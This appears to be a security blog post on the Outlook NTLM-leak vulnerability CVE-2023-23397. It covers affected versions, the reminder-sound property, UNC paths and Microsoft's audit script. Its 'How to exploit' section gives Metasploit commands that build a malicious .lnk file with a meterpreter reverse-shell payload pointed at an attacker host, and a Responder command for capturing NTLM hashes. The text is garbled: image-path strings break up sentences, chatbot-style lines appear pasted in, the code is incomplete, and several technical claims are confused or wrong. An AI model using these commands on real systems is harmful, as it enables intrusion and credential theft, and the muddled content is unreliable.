CVE-2023-23397: New Outlook Vulnerability Can Steal Your NTLM Hash with Zero Click

  • Home
  • Report
  • CVE-2023-23397: New Outlook Vulnerability Can Steal Your NTLM Hash with Zero Click
CVE-2023-23397: New Outlook Vulnerability Can Steal Your NTLM Hash with Zero Click

Executive Summary

Microsoft recently released patches for approximately 80 newly discovered security vulnerabilities on March 14, 2023 . Amongthese vulnerabilities are two zero-day vulnerabilities, CVE-2023-23397 and CVE-2023-24880 . The severity of these two exploits was rated using the Common Vulnerability Scoring System (CVSS), with scores of 9.8 and 5.1, respectively. In addition to the security patch, Microsoft has released a detailed advisory for CVE-2023-23397 , which provides details of the vulnerability.

An elevation of privilege (EoP) vulnerability exists in Microsoft Outlook that could have serious consequences. The vulnerability exists when an attacker sends a message to a victim using an Extended Messaging Application Programming Interface (MAPI) property that contains a Universal Naming Convention (UNC) path. When victims receive malicious messages, the UNC path directs them to a Server Message Block (SMB) (TCP 445) share hosted on a server controlled by the attacker, triggering the vulnerability.

This critical vulnerability requires no user action. When a victim connectsto an attacker’s SMB server, the user’s New Technology LAN Manager (NTLM) Negotiate message is automatically sent, which the attacker can use to authenticate to other systems that support NTLM authentication. However, online services such as Microsoft 365 are not vulnerable to this attack because they do not support NTLM authentication.


Involved:  CVE-2023-23397

Root Cause: PidLidReminderFileParameter


Remote Code Execution


  1. Microsoft recommends that users patch their systems immediately.
  2. If patching is not possible immediately, Microsoft recommends adding the user to the Protected Users group in Active Directory and blocking outbound SMB traffic on TCP port 445. These measures may help limit the impact of the CVE-2023-23397 vulnerability.


Microsoft Outlook 2016 (64-bit edition)

Microsoft Outlook 2013 Service Pack 1 (32-bit editions)

Microsoft Outlook 2013 RT Service Pack 1

Microsoft Outlook 2013 Service Pack 1 (64-bit editions)

Microsoft Office 2019 for 32-bit editions

Microsoft 365 Apps for Enterprise for 32-bit Systems

Microsoft Office 2019 for 64-bit editions

Microsoft 365 Apps for Enterprise for 64-bit Systems

Microsoft Office LTSC 2021 for 64-bit editionsMicrosoft Outlook 2016 (32-bit edition)

Microsoft Office LTSC 2021 for 32-bit editions

Technical Detail

PidLidReminderFileParameter is a property identifier (PID) used in Microsoft Outlook to represent the path and filename of a custom sound file that is played as a reminder when an event or task is due.

This property is used in conjunction with the PidLidReminderSet property, which indicates whether a reminder is set for the associated event or task. If PidLidReminderSet is set to true and PidLidReminderFileParameter is also set, Outlook will play the specified sound file when the reminder is triggered.

The value of PidLidReminderFileParameter is a Unicode string that contains the fully-qualified path and filename of the sound file, up to a maximum length of 255 characters. It can be set programmatically using Outlook Object Model or Extended MAPI.

It’s worth noting that customreminder sounds can be a useful feature for users who need a more distinct or attention-grabbing reminder tone than the default sounds provided by Outlook. However, it’s important to ensure that any custom sound files used are appropriate for a professional setting and do not disrupt others in shared workspaces.

Certainly, here’s an example of how you can set the PidLidReminderFileParameter property using the Outlook Object Model in C#:

using Microsoft.Office.Interop.Outlook;

// ...

// Get the task item you want to set the reminder for

TaskItem taskItem = Application.Session.GetDefaultFolder(OlDefaultFolders.olFolderTasks)

    .Items.Find("[Task Subject]");

// Set the reminder properties

taskItem.ReminderSet = true;

taskItem.ReminderMinutesBeforeStart = 15;


    OlUserPropertyType.olText).Value = @"C:\ReminderSound.wav";

// Save the changes to the task item


In this example, we first obtain a TaskItem object for the task we want to set the reminder for. We then set the ReminderSet and ReminderMinutesBeforeStart properties to indicate that a reminder should be set for 15 minutes before the task’s due date/time.

Finally, we add a new user property to the UserProperties collection of the task item, using the property identifier “{00020329-0000-0000-C000-000000000046}/PidLidReminderFileParameter”. We set the value of this property tothe fully-qualified path and filename of the sound file we want to use as the custom reminder sound.

Note that the UserProperties.Add method returns a UserProperty object, which we do not store in this example. You may want to store this object if you need to retrieve or modify the value of the property later.

Finally, we save the changes to the task item using the Save method.


An UNC (Universal NamingConvention) path is a method of identifying network resources in a way that is independent of the network’s topology and naming conventions. It is commonly used in Windows networks to identify shared folders and files, printers, and other network resources.

UNC paths have the following format:


where <server> is the name or IP address of the computer hosting the shared resource, <share> is the name of the shared folder, and <path> is the path to the folder or file within the sharedfolder.

For example, the UNC path to a shared folder named “SharedDocs” on a computer named “Server1” might be:


UNC paths can be used in many different contexts, such as specifying the location of files in a batch script or setting the target for a shortcut. However, it’s important to note that UNC paths are only valid on networks that support them. Additionally, access to resources on remote computers via UNC paths may be subject to security restrictions, such as requiring authentication credentials or being restricted by firewall rules.

The UNC (Universal Naming Convention) path injection vulnerability is a type of security vulnerability that can occur when an attacker is able to inject a UNC path into a program or system that expects a file path. If the program does not properly validate the input, the attacker can manipulate the input to include a UNC path to a malicious file hosted on a remote server. This can result in remote code execution, where the attacker’s code is executed on the victim’s machine without their knowledge or consent.

This is where the magic happens – by using a specially crafted LNK file, an attacker can execute arbitrary code remotely on the victim’s machine. The LNK file can be hosted on an SMB share that the attacker controls, and the UNC path injected into the PidLidReminderFileParameter can point to this share. When the calendar item is opened, Outlook will try to retrieve the sound file from the UNC path, and in the process, will automatically execute the LNK file, triggering the payload.

As for the payload, the attacker can use any command they want, really – it all depends on what they want to achieve. They can use the payload to download additional malware, escalate privileges, or even exfiltratesensitive information from the victim’s machine.


CVE-2018-0850 is a vulnerability that affects Microsoft Outlook, specifically its handling of reminders. The vulnerability allows for a remote attacker to execute arbitrary code on the target system by exploiting the way Outlook handles certain properties of reminder files.

One of the affected properties is PidLidReminderFileParameter, which specifies the file path for the reminder sound file. If an attacker crafts a malicious reminder file that contains an UNC (Uniform Naming Convention) path, and the user clicks on the reminder, Outlook will attempt to access the sound file using the UNC path. This can lead to a path traversal attack, allowing the attacker to execute arbitrary code on the target system.

An UNC path is a way to specify the location of a file or resource on a network using a path that beginswith two backslashes (“\”). For example, the path “\server\share\file.txt” refers to the file “file.txt” located on the network share “share” on the server named “server”.

To exploit the vulnerability, an attacker would need to convince the target user to open a malicious reminder file. This could be done through social engineering techniques, such as phishing emails or messages containing links to the file.

Microsoft released a security update to address the vulnerability in March 2018, so users should ensure that their systems are up to date to protect against this attack.

How to exploit

To exploit this vulnerability over SMB, the attacker can use a tool like Metasploit or PowerShell Empire to create a payload and embed it in a .lnk file. The attacker can then send this file to the victim over SMB, for example by using a phishing email or bycompromising a file server on the victim’s network. When the victim clicks on the .lnk file, the payload is executed on their system, allowing the attacker to gain remote access or steal sensitive information.

Here are examples of commands that can be used to create and deliverthe malicious .lnk file using Metasploit and PowerShell Empire, respectively:


use exploit/windows/fileformat/ms15_020_shortcut_icon_dllloader

set PAYLOAD windows/meterpreter/reverse_tcp

set LHOST <attacker IP>

set LPORT <attacker port>

set FILENAME <malicious file name>.lnk


Responder is a tool that can be used to gather NTLM hashes by intercepting and relaying network traffic.

Here is an example command to use Responder to capture NTLM hashes over SMB:

sudo responder -I eth0 -v -wrf

How to audit

Microsoft did provide a script to audit your Exchange server for mail items that might be being used to exploit the issue.Download the latest release: CVE-2023-23397.ps1

CVE-2023-23397.ps1 is a script that checks Exchange messaging items (mail, calendar and tasks) to see whether a property is populated with a UNC path. If required, admins can use this script toclean up the property for items that are malicious or even delete the items permanently. Please see CVE-2023-23397 for more information.

There are two modes for the script: Audit and Cleanup.

Audit Mode: Script provides a CSV file with details of items that have the property populated.

Cleanup Mode: Script performs cleanup on detected items by either clearing the property or deleting the item.

Also Maybe Microsoft, WebDAV WILL leak hashes to intranet zones, even on patched Outlook


Overall, it appears to be a useful resource for individuals and organizations that are using Microsoft Exchange Server and want to ensure they are protected against this particular vulnerability. It’s important to note that security vulnerabilities are a common occurrence in software systems, and it’s always recommended to stay informed about potential vulnerabilities and take appropriate measures to mitigate risks.

It’s recommended to take preventive measures, suchas:

  • Regularly back up critical data and store thebackups offline
  • Keep software and operating systems up to date with the latest patches and security updates
  • Train employees on how to recognize and avoid suspicious emails and attachments
  • Use strong and unique passwords, and regularly change them
  • Implement acomprehensive security solution, such as antivirus software, firewalls, and intrusion detection systems.

It’s highly discouraged to pay theransom, as it does notguarantee that the attackers will provide the decryption key, and also it funds and encourages the attackers tocontinue with these malicious activities.

Leave a Reply

Your emailaddress will not be published. Required fields are marked *